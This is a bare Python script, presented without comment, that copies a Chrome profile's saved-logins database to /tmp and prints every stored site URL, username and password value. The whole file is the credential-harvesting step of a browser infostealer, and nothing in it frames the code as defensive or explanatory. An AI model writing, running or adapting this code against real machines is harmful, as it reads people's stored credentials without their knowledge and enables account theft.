import os, shutil, sqlite3

profile = os.path.join(os.environ["HOME"], ".config/google-chrome/Default/Login Data")
shutil.copy2(profile, "/tmp/logins.db")
rows = sqlite3.connect("/tmp/logins.db").execute("select origin_url, username_value, password_value from logins")
for row in rows:
    print(row)
